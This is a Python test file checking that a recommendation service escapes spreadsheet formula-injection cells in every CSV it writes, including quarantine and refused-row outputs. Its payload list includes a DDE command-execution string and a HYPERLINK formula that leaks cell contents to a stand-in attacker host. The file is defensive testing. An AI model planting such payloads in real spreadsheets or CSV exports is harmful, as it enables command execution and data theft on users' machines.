"""Formula injection: every CSV recsvc writes escapes cells a spreadsheet would evaluate (OWASP).

Catalog titles such as ``=cmd|' /C calc'!A0`` were written unescaped to quarantine CSVs; the
import's refused rows and the load test's failure CSVs had the same gap.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from pipelines.contract import CATALOG, Reason
from pipelines.validate import validate_dir
from recsvc.cli import app
from recsvc.csvsafe import SafeDictWriter, SafeWriter, escape_cell, escape_frame, unescape
from recsvc.settings import DataSettings

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
NOW = datetime(2026, 6, 1, tzinfo=UTC)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_leading_quote_and_come_back(payload: str) -> None:
    escaped = escape_cell(payload)
    assert escaped == "'" + payload
    assert unescape(escaped) == payload


@pytest.mark.parametrize("value", ["-5", "-1.5e3", "+7", "-0.25", "Oolong Tea", "", "'quoted", 3, -2.5, None])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert escape_cell(value) == value


def test_frame_escapes_text_columns_only() -> None:
    frame = pd.DataFrame({"n": [-3, 4], "x": [-1.5, 2.0], "title": ["=1+1", "ok"]})
    out = escape_frame(frame)
    assert out["n"].tolist() == [-3, 4] and out["x"].tolist() == [-1.5, 2.0]
    assert out["title"].tolist() == ["'=1+1", "ok"]


def test_writers_escape_and_quote_text() -> None:
    buf = io.StringIO()
    SafeWriter(buf).writerow(["=x", 1, -2.5, "-5", "a,b"])
    assert buf.getvalue().strip() == '"\'=x",1,-2.5,"-5","a,b"'
    buf = io.StringIO()
    w = SafeDictWriter(buf, fieldnames=["member_id", "reason"])
    w.writeheader()
    w.writerow({"member_id": "@evil", "reason": "unknown"})
    assert buf.getvalue().splitlines()[1] == '"\'@evil","unknown"'


def _catalog_rows(titles: list[str], bad_price_title: str) -> list[dict[str, str]]:
    rows = [
        {"item_id": f"P{i}", "kind": "product", "title": t, "category": "tea", "brand": "Leaf",
         "price": "9.5", "in_stock": "true", "published_at": "", "featured_item_ids": ""}
        for i, t in enumerate(titles)
    ]  # fmt: skip
    rows.append({**rows[0], "item_id": "PX", "title": bad_price_title, "price": "-3"})
    return rows


def _write_folder(folder: Path, catalog: list[dict[str, str]]) -> Path:
    folder.mkdir(parents=True)
    pd.DataFrame(catalog, columns=list(CATALOG.columns), dtype=str).to_csv(
        folder / "catalog.csv", index=False, quoting=csv.QUOTE_ALL
    )
    (folder / "members.csv").write_text(
        "member_id,registered_at,tier,timezone,consent_app_push,consent_mini_program_subscribe,"
        "consent_wecom,consent_official_account,consent_sms\n"
    )
    (folder / "events.csv").write_text("member_id,item_id,event_type,ts,channel,quantity,amount\n")
    return folder


def test_titles_are_kept_as_given_and_escaped_in_the_quarantine_csv(tmp_path: Path) -> None:
    folder = _write_folder(tmp_path / "d", _catalog_rows(PAYLOADS[:4], bad_price_title="=cmd|' /C calc'!A0"))
    result = validate_dir(folder, DataSettings(), now=NOW)
    # Accepted titles are data, stored as given: a product may well be called "-20% Tea".
    assert result.catalog["title"].tolist() == PAYLOADS[:4]
    assert result.tables["catalog"].reason_counts == {Reason.NEGATIVE_PRICE: 1}
    out = tmp_path / "q"
    result.write(out)
    with (out / "catalog.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["title"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["price"] == "-3"  # a plain negative number is not a formula: kept
    assert rows[0]["detail"] == "price='-3'"
    raw = (out / "catalog.csv").read_text()
    # No cell of the file starts with a formula trigger (every cell is quoted; look inside quotes).
    for line in raw.splitlines():
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_outreach_import_refused_rows_are_escaped(
    tmp_path: Path, redis_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RECSVC_REDIS__URL", redis_url)
    data = tmp_path / "data"
    data.mkdir()
    pd.DataFrame({"member_id": ["=1+1", "@M2"], "timezone": ["UTC", "Nowhere/Land"]}).to_csv(
        data / "members.csv", index=False
    )
    quarantine = tmp_path / "q.csv"
    res = CliRunner().invoke(app, ["outreach", "import", str(data), "--quarantine", str(quarantine)])
    assert res.exit_code == 1, res.output  # every row refused: nothing imported
    with quarantine.open(newline="") as fh:
        ids = sorted(row["member_id"] for row in csv.DictReader(fh))
    assert ids == ["'=1+1", "'@M2"]
